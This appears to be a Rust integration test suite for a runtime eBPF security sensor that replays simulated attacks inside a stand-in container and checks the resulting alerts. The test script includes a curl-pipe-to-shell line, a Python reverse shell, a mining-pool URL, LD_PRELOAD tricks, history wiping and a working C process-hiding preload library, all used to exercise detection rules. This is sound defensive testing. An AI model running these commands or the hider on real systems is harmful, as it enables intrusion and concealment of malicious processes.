//! The runtime sensor end to end, as root: real processes started by the test inside a
//! stand-in container (a new cgroup named like a containerd scope, plus `unshare -m -p -f
//! --mount-proc`), the real eBPF sensor (`harrier sensor`), and the alerts it prints. The same
//! actions on the host must not fire the container-only rules.
//!
//! These tests need root, BTF and tracefs (CI runs as root and mounts tracefs). Set
//! HARRIER_SKIP_SENSOR_TESTS=1 to skip them knowingly elsewhere; they fail otherwise.

use std::io::{BufRead, BufReader};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::mpsc;
use std::time::Duration;

use serde_json::Value;

fn harrier() -> Command {
    Command::new(env!("CARGO_BIN_EXE_harrier"))
}

fn shared(rel: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared")
        .join(rel)
}

/// Whether the tests can run; panics when they cannot and were not told to skip.
fn root_or_skip() -> bool {
    if std::env::var_os("HARRIER_SKIP_SENSOR_TESTS").is_some() {
        eprintln!("sensor tests skipped (HARRIER_SKIP_SENSOR_TESTS is set)");
        return false;
    }
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let uid = status
        .lines()
        .find_map(|l| l.strip_prefix("Uid:"))
        .and_then(|l| l.split_whitespace().nth(1))
        .unwrap();
    assert_eq!(
        uid, "0",
        "the sensor tests need root (or set HARRIER_SKIP_SENSOR_TESTS=1 to skip them)"
    );
    true
}

fn cgroup2_root() -> PathBuf {
    let text = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    text.lines()
        .find_map(|l| {
            let (left, right) = l.split_once(" - ")?;
            right
                .starts_with("cgroup2 ")
                .then(|| PathBuf::from(left.split(' ').nth(4).unwrap()))
        })
        .expect("a cgroup v2 mount")
}

struct Sensor {
    child: Child,
    alerts: mpsc::Receiver<String>,
}

impl Sensor {
    fn start(extra: &[&str]) -> Sensor {
        let mut child = harrier()
            .args(["sensor", "--format", "json", "--hidden-every", "0"])
            .args(extra)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let (ready_tx, ready_rx) = mpsc::channel();
        let stderr = child.stderr.take().unwrap();
        std::thread::spawn(move || {
            for line in BufReader::new(stderr).lines().map_while(Result::ok) {
                eprintln!("[sensor] {line}");
                if line.contains("harrier sensor: ready") {
                    let _ = ready_tx.send(());
                }
            }
        });
        let (tx, alerts) = mpsc::channel();
        let stdout = child.stdout.take().unwrap();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                let _ = tx.send(line);
            }
        });
        ready_rx
            .recv_timeout(Duration::from_secs(60))
            .expect("the sensor did not get ready (see its stderr above)");
        Sensor { child, alerts }
    }

    /// Stops the sensor (SIGTERM drains the ring buffer) and returns every alert.
    fn stop(mut self) -> Vec<Value> {
        std::thread::sleep(Duration::from_millis(500));
        let pid = self.child.id().to_string();
        Command::new("kill").args(["-TERM", &pid]).status().unwrap();
        let status = self.child.wait().unwrap();
        assert!(status.success(), "sensor exit: {status}");
        self.alerts
            .try_iter()
            .map(|l| serde_json::from_str(&l).unwrap_or_else(|e| panic!("{e}: {l}")))
            .collect()
    }
}

fn sh(script: &str) {
    let out = Command::new("bash").args(["-c", script]).output().unwrap();
    assert!(
        out.status.success(),
        "{script}\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// The attacker's actions; `$W` is a work directory, `$PORT` a local listener's port, `$MARK` a
/// marker in command lines.
const STORY: &str = r#"
set -e
mkdir -p "$W"
# kubectl exec -it: a shell with a terminal
script -qec "bash -c 'exit 0 # $MARK'" /dev/null
# drop and execute: a miner written into the container, then run
cp /bin/sleep "$W/xmrig"
"$W/xmrig" 0.05
# a stratum URL as an argument
/bin/echo "stratum+tcp://198.51.100.7:3333 $MARK" > /dev/null
# a connection to a local listener on a pool port
python3 -c "import socket; socket.create_connection(('127.0.0.1', $PORT)).close()"
# download and run (the curl never runs: true short-circuits it)
sh -c "true || curl -s http://203.0.113.9/x | sh # $MARK"
# a reverse shell: sh with a TCP socket as its input
python3 -c "
import socket, subprocess
s = socket.create_connection(('127.0.0.1', $PORT))
subprocess.run(['/bin/sh', '-c', 'exit 0'], stdin=s.fileno())
"
# LD_PRELOAD in an exec
LD_PRELOAD="$W/none-$MARK.so" /bin/true 2>/dev/null || true
# history removed
touch "$W/.bash_history"
rm "$W/.bash_history"
echo ls > "$W/.zsh_history"
truncate -s 0 "$W/.zsh_history"
# anti-debugging, a packet socket, a symlink over a sensitive file (Falco's own rules)
python3 -c "import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)  # $MARK"
python3 -c "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()  # $MARK"
ln -sf /etc/shadow "$W/shadow-$MARK"
"#;

/// /etc/ld.so.preload written in a private mount namespace over a stand-in /etc (tmpfs),
/// checked in mountinfo before the write: never the real file.
const PRELOAD: &str = r#"
unshare -m sh -c 'set -e
mount -t tmpfs harrier-etc /etc
grep -q " /etc .* - tmpfs harrier-etc " /proc/self/mountinfo
: > /etc/ld.so.preload
cd /etc
cp /dev/null ld.so.preload'
"#;

fn listener() -> (TcpListener, u16) {
    // 14444 is on the pool-port list; fall back to 45560 if it is taken.
    for port in [14444u16, 45560, 45700] {
        if let Ok(l) = TcpListener::bind(("127.0.0.1", port)) {
            return (l, port);
        }
    }
    panic!("no pool port free on 127.0.0.1");
}

fn field<'a>(a: &'a Value, f: &str) -> &'a str {
    a["output_fields"][f].as_str().unwrap_or("")
}

#[test]
fn attack_in_a_stand_in_container_raises_each_alert_with_its_container_and_pod() {
    if !root_or_skip() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let salt = std::process::id() as u64;
    let full_id = format!(
        "{:016x}{:016x}{:016x}{:016x}",
        0x3f2a_6b1c_9d0e_4f5a ^ salt,
        0x6b7c_8d9e_0f1a_2b3c_u64,
        0x4d5e_6f7a_8b9c_0d1e_u64,
        0x2f3a_4b5c_6d7e_8f9a_u64 ^ salt
    );
    let id = &full_id[..12];
    // The runtime's metadata, as containerd keeps it for a Kubernetes container.
    let bundle = tmp.path().join("runtime/k8s.io").join(&full_id);
    std::fs::create_dir_all(&bundle).unwrap();
    std::fs::write(
        bundle.join("config.json"),
        r#"{"annotations":{"io.kubernetes.cri.sandbox-name":"nginx-7c9f","io.kubernetes.cri.sandbox-namespace":"web","io.kubernetes.cri.container-name":"nginx","io.kubernetes.cri.image-name":"123456789012.dkr.ecr.us-east-1.amazonaws.com/web:1.4"}}"#,
    )
    .unwrap();
    let slice = cgroup2_root().join(format!("harrier-test-{}.slice", std::process::id()));
    let cg = slice.join(format!("cri-containerd-{full_id}.scope"));
    std::fs::create_dir_all(&cg).unwrap();
    let (listener, port) = listener();
    std::thread::spawn(move || for _ in listener.incoming() {});

    let falco = shared("rules/falco/falco_rules.yaml");
    let runtime = tmp.path().join("runtime");
    let events = tmp.path().join("events.jsonl");
    let sensor = Sensor::start(&[
        "--runtime-root",
        runtime.to_str().unwrap(),
        "--rules",
        falco.to_str().unwrap(),
        "--events-out",
        events.to_str().unwrap(),
    ]);
    let script = tmp.path().join("story.sh");
    std::fs::write(&script, format!("{STORY}\n{PRELOAD}")).unwrap();
    let host_script = tmp.path().join("host.sh");
    std::fs::write(&host_script, STORY).unwrap();
    let cw = tmp.path().join("c");
    let hw = tmp.path().join("h");
    // In the container: join the cgroup, then new mount and pid namespaces.
    sh(&format!(
        "echo $$ > {procs} && W={cw} PORT={port} MARK=in-container exec unshare -m -p -f --mount-proc bash {script}",
        procs = cg.join("cgroup.procs").display(),
        cw = cw.display(),
        script = script.display()
    ));
    // On the host: the same actions (but the preload write).
    sh(&format!(
        "W={hw} PORT={port} MARK=on-host bash {}",
        host_script.display(),
        hw = hw.display()
    ));
    let alerts = sensor.stop();
    let _ = std::fs::remove_dir(&cg);
    let _ = std::fs::remove_dir(&slice);

    let xmrig = format!("{}/xmrig", cw.display());
    let in_container = |rule: &str| -> Vec<&Value> {
        alerts
            .iter()
            .filter(|a| {
                a["rule"] == rule
                    && (field(a, "container.id") == id
                        // Falco's rules do not print the container: the executable or the
                        // marker in the command line tells.
                        || (rule.starts_with("Drop and execute")
                            && field(a, "proc.exepath") == xmrig)
                        || (!a["output_fields"]
                            .as_object()
                            .unwrap()
                            .contains_key("container.id")
                            && a["output"].as_str().unwrap().contains("in-container")))
            })
            .collect()
    };
    for rule in [
        "Terminal Shell In Container",
        "Drop And Execute In Container",
        "Crypto Miner Started",
        "Connection To Mining Pool Port",
        "Shell History Deleted Or Truncated",
        "Dynamic Linker Preload File Written",
        "LD_PRELOAD Set On Exec",
        "Download And Run In Container",
        "Reverse Shell",
        // Falco's own rules, from falco_rules.yaml unchanged.
        "Drop and execute new binary in container",
        "PTRACE anti-debug attempt",
        "Packet socket created in container",
        "Create Symlink Over Sensitive Files",
    ] {
        let hits = in_container(rule);
        assert!(
            !hits.is_empty(),
            "no '{rule}' alert with container.id {id}; alerts: {:#?}",
            alerts
                .iter()
                .map(|a| format!("{} {}", a["rule"], a["output"]))
                .collect::<Vec<_>>()
        );
        for a in &hits {
            if a["output_fields"].get("k8s.pod.name").is_some() {
                assert_eq!(field(a, "k8s.pod.name"), "nginx-7c9f", "{a}");
                assert_eq!(field(a, "k8s.ns.name"), "web", "{a}");
            }
        }
    }
    // What fired is what the test did.
    let miners = in_container("Crypto Miner Started");
    assert!(miners
        .iter()
        .any(|a| a["output"].as_str().unwrap().contains("exe=")
            && field(a, "proc.cmdline").starts_with("xmrig 0.05")));
    assert!(
        miners
            .iter()
            .any(|a| field(a, "proc.cmdline")
                .contains("stratum+tcp://198.51.100.7:3333 in-container"))
    );
    let drop_exec = in_container("Drop And Execute In Container");
    assert!(drop_exec
        .iter()
        .all(|a| field(a, "proc.exepath") == format!("{}/xmrig", cw.display())));
    let pool = in_container("Connection To Mining Pool Port");
    assert!(pool
        .iter()
        .any(|a| field(a, "fd.name") == format!("->127.0.0.1:{port}")));
    let preload = in_container("Dynamic Linker Preload File Written");
    assert!(preload
        .iter()
        .all(|a| a["output"].as_str().unwrap().contains("O_TRUNC")));
    // A relative path from a short-lived process (cp in /etc) is resolved too.
    assert!(
        preload
            .iter()
            .any(|a| a["output"].as_str().unwrap().contains("written by cp")),
        "{preload:#?}"
    );
    let hist = in_container("Shell History Deleted Or Truncated");
    assert!(hist
        .iter()
        .any(|a| field(a, "fd.name") == format!("{}/.bash_history", cw.display())));
    // truncate -s 0: open without O_TRUNC, then ftruncate(fd, 0).
    assert!(hist.iter().any(
        |a| field(a, "fd.name") == format!("{}/.zsh_history", cw.display())
            && a["output"].as_str().unwrap().contains("(ftruncate)")
    ));

    // The host's run: the container-only rules stay silent, the others still fire there.
    let on_host = |rule: &str| -> Vec<&Value> {
        alerts
            .iter()
            .filter(|a| {
                a["rule"] == rule
                    && matches!(field(a, "container.id"), "host" | "")
                    && (a["output"].as_str().unwrap().contains("on-host")
                        || a["output"].as_str().unwrap().contains(hw.to_str().unwrap()))
            })
            .collect()
    };
    for rule in [
        "Terminal Shell In Container",
        "Drop And Execute In Container",
        "Download And Run In Container",
        "Drop and execute new binary in container",
        "Packet socket created in container",
    ] {
        assert!(
            on_host(rule).is_empty(),
            "{rule} fired on the host: {:#?}",
            on_host(rule)
        );
    }
    assert!(!on_host("Crypto Miner Started").is_empty());
    assert!(!on_host("PTRACE anti-debug attempt").is_empty());
    assert!(!on_host("Shell History Deleted Or Truncated").is_empty());
    // The recorded events replayed through `harrier detect` raise exactly the same alerts
    // (same rules, same ids): one pipeline for audit logs and the sensor.
    let replay = harrier()
        .args(["detect", "--format", "json", "--rules"])
        .arg(&falco)
        .arg(&events)
        .output()
        .unwrap();
    assert!(
        replay.status.success(),
        "{}",
        String::from_utf8_lossy(&replay.stderr)
    );
    let ids = |v: Vec<&Value>| -> std::collections::BTreeSet<String> {
        v.iter()
            .map(|a| a["id"].as_str().unwrap().to_string())
            .collect()
    };
    let replayed: Vec<Value> = String::from_utf8_lossy(&replay.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(ids(alerts.iter().collect()), ids(replayed.iter().collect()));
    // Nothing but the container's work raised alerts with its id.
    assert!(alerts
        .iter()
        .filter(|a| field(a, "container.id") == id)
        .all(|a| !a["output"].as_str().unwrap().contains("on-host")));
}

const HIDE_LIB: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdio.h>
#include <string.h>

/* libprocesshider's trick: skip /proc entries of processes named harrier-hideme. */
static int hidden(const char *name) {
    char path[300], comm[64];
    if (name[0] < '0' || name[0] > '9') return 0;
    snprintf(path, sizeof path, "/proc/%s/comm", name);
    FILE *f = fopen(path, "r");
    if (!f) return 0;
    size_t n = fread(comm, 1, sizeof comm - 1, f);
    fclose(f);
    comm[n] = 0;
    if (n && comm[n - 1] == '\n') comm[n - 1] = 0;
    return strcmp(comm, "harrier-hideme") == 0;
}

struct dirent *readdir(DIR *d) {
    static struct dirent *(*orig)(DIR *);
    if (!orig) orig = dlsym(RTLD_NEXT, "readdir");
    struct dirent *e;
    while ((e = orig(d)) && hidden(e->d_name)) {}
    return e;
}

struct dirent64 *readdir64(DIR *d) {
    static struct dirent64 *(*orig)(DIR *);
    if (!orig) orig = dlsym(RTLD_NEXT, "readdir64");
    struct dirent64 *e;
    while ((e = orig(d)) && hidden(e->d_name)) {}
    return e;
}
"#;

fn build_hide_lib(dir: &Path) -> PathBuf {
    let src = dir.join("hide.c");
    let lib = dir.join("libhide.so");
    std::fs::write(&src, HIDE_LIB).unwrap();
    let st = Command::new("cc")
        .args(["-shared", "-fPIC", "-O2", "-o"])
        .arg(&lib)
        .arg(&src)
        .arg("-ldl")
        .status()
        .unwrap();
    assert!(st.success());
    lib
}

#[test]
fn a_process_hidden_by_a_preload_library_is_found() {
    if !root_or_skip() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let lib = build_hide_lib(tmp.path());
    let exe = tmp.path().join("harrier-hideme");
    std::fs::copy("/bin/sleep", &exe).unwrap();
    let mut victim = Command::new(&exe).arg("60").spawn().unwrap();
    let pid = victim.id().to_string();
    std::thread::sleep(Duration::from_millis(200));

    // The library works: ls (libc readdir) no longer lists the process.
    let ls = Command::new("ls")
        .args(["-1", "/proc"])
        .env("LD_PRELOAD", &lib)
        .output()
        .unwrap();
    let listed = String::from_utf8_lossy(&ls.stdout)
        .lines()
        .any(|l| l == pid);
    assert!(!listed, "the preload library did not hide {pid}");

    // Harrier, itself running under the library, still finds it.
    let out = harrier()
        .args(["sensor", "--check-hidden", "--format", "json"])
        .env("LD_PRELOAD", &lib)
        .output()
        .unwrap();
    let alerts: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let hit = alerts
        .iter()
        .find(|a| a["rule"] == "Hidden Process Found" && field(a, "proc.pid") == pid)
        .unwrap_or_else(|| panic!("no alert for pid {pid}: {alerts:#?}"));
    assert_eq!(field(hit, "proc.name"), "harrier-hideme");
    assert_eq!(field(hit, "evt.arg.by"), "readdir");

    // Near miss: without the library nothing is hidden.
    let out = harrier()
        .args(["sensor", "--check-hidden", "--format", "json"])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(out.stdout.is_empty());
    victim.kill().unwrap();
    victim.wait().unwrap();
}

#[test]
fn serve_with_a_sensor_source_stores_and_delivers_runtime_alerts() {
    if !root_or_skip() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let state = tmp.path().join("state");
    let out = tmp.path().join("alerts.jsonl");
    let cfg = tmp.path().join("harrier.yaml");
    std::fs::write(
        &cfg,
        format!(
            "state_dir: {}\nsources:\n  - type: sensor\n    hidden_every: 0s\noutputs:\n  - type: file\n    path: {}\n",
            state.display(),
            out.display()
        ),
    )
    .unwrap();
    let mut child = harrier()
        .args(["serve", "--config"])
        .arg(&cfg)
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let (tx, rx) = mpsc::channel();
    let stderr = child.stderr.take().unwrap();
    std::thread::spawn(move || {
        for line in BufReader::new(stderr).lines().map_while(Result::ok) {
            eprintln!("[serve] {line}");
            if line.contains("harrier sensor: ready") {
                let _ = tx.send(());
            }
        }
    });
    rx.recv_timeout(Duration::from_secs(60))
        .expect("the sensor source did not start");
    // A miner started on this host.
    let w = tmp.path().join("w");
    sh(&format!(
        "mkdir -p {w} && cp /bin/sleep {w}/xmrig && {w}/xmrig 0.01",
        w = w.display()
    ));
    let exe = format!("{}/xmrig", w.display());
    let delivered = |text: &str| {
        text.lines().any(|l| {
            let a: Value = serde_json::from_str(l).unwrap();
            a["rule"] == "Crypto Miner Started"
                && field(&a, "proc.cmdline") == "xmrig 0.01"
                && a["output"].as_str().unwrap().contains(&exe)
        })
    };
    let mut found = false;
    for _ in 0..100 {
        if delivered(&std::fs::read_to_string(&out).unwrap_or_default()) {
            found = true;
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    Command::new("kill")
        .args(["-TERM", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(child.wait().unwrap().success());
    assert!(found, "the file output never got the miner alert");
    // It is in the store, once.
    let list = harrier()
        .args([
            "alerts",
            "list",
            "--format",
            "json",
            "--rule",
            "Crypto Miner Started",
            "--state-dir",
        ])
        .arg(&state)
        .output()
        .unwrap();
    let stored = String::from_utf8_lossy(&list.stdout)
        .lines()
        .filter(|l| l.contains(&exe))
        .count();
    assert_eq!(stored, 1, "{}", String::from_utf8_lossy(&list.stdout));
}

/// What a run of the filter story sent: the `(evt.type, fd.name)` of each event under `w`.
fn sent_under(events: &Path, w: &Path) -> Vec<(String, String)> {
    let text = std::fs::read_to_string(events).unwrap();
    text.lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter_map(|e| {
            let name = e["fd"]["name"].as_str()?;
            name.starts_with(w.to_str().unwrap()).then(|| {
                (
                    e["evt"]["type"].as_str().unwrap().to_string(),
                    name.to_string(),
                )
            })
        })
        .collect()
}

#[test]
fn the_kernel_filter_drops_only_what_no_loaded_rule_could_match() {
    if !root_or_skip() {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let w = tmp.path().join("w");
    std::fs::create_dir_all(w.join("a")).unwrap();
    // On the host (the sensor's mount namespace), then in a private one (a container's).
    let story = r#"
set -e
cd "$W"
for i in 1 2 3; do echo x > "$W/plain"; done
echo ls > "$W/.bash_history"
echo x > "$W/a/../dotdot"
echo x > "$W//double"
echo x > relative
echo x > "$W/missing/x" 2>/dev/null || true
ln -s /etc/shadow "$W/link"
rm "$W/.bash_history"
unshare -m sh -c 'echo x > "$W/in-other-namespace"'
"#;
    let run = |extra: &[&str], name: &str| -> (Vec<(String, String)>, Vec<Value>) {
        let _ = std::fs::remove_dir_all(&w);
        std::fs::create_dir_all(w.join("a")).unwrap();
        let events = tmp.path().join(name);
        let mut args = vec!["--events-out", events.to_str().unwrap()];
        args.extend_from_slice(extra);
        let sensor = Sensor::start(&args);
        sh(&format!(
            "W={} bash -c '{}'",
            w.display(),
            story.replace('\'', "'\\''")
        ));
        let alerts = sensor.stop();
        (sent_under(&events, &w), alerts)
    };
    let at = |p: &str| format!("{}/{p}", w.display());
    let has = |sent: &[(String, String)], ty: &str, p: &str| {
        sent.iter().any(|(t, n)| t == ty && *n == at(p))
    };

    // The built-in rules: opens for write are read only of /etc/ld.so.preload and of shell
    // history files; symlinks not at all; no file rule matches a failed call.
    let (sent, alerts) = run(&[], "filtered.jsonl");
    assert!(!has(&sent, "openat", "plain"), "{sent:#?}");
    assert!(!has(&sent, "openat", "missing/x"), "{sent:#?}");
    assert!(!has(&sent, "symlinkat", "link"), "{sent:#?}");
    // Kept: a name a rule reads, and what only user space can judge.
    for (ty, p) in [
        ("openat", ".bash_history"),
        ("unlinkat", ".bash_history"),
        ("openat", "dotdot"),
        ("openat", "double"),
        ("openat", "relative"),
        ("openat", "in-other-namespace"),
    ] {
        assert!(has(&sent, ty, p), "{ty} {p} not sent: {sent:#?}");
    }
    let hist: Vec<&Value> = alerts
        .iter()
        .filter(|a| {
            a["rule"] == "Shell History Deleted Or Truncated"
                && field(a, "fd.name") == at(".bash_history")
        })
        .collect();
    assert_eq!(hist.len(), 2, "{alerts:#?}"); // the truncating open and the unlink

    // Near miss: the same story with the filter off sends what was dropped.
    let (sent, _) = run(&["--no-kernel-filter"], "everything.jsonl");
    assert_eq!(
        sent.iter()
            .filter(|(t, n)| t == "openat" && *n == at("plain"))
            .count(),
        3,
        "{sent:#?}"
    );
    assert!(has(&sent, "openat", "missing/x"), "{sent:#?}");
    assert!(has(&sent, "symlinkat", "link"), "{sent:#?}");
}
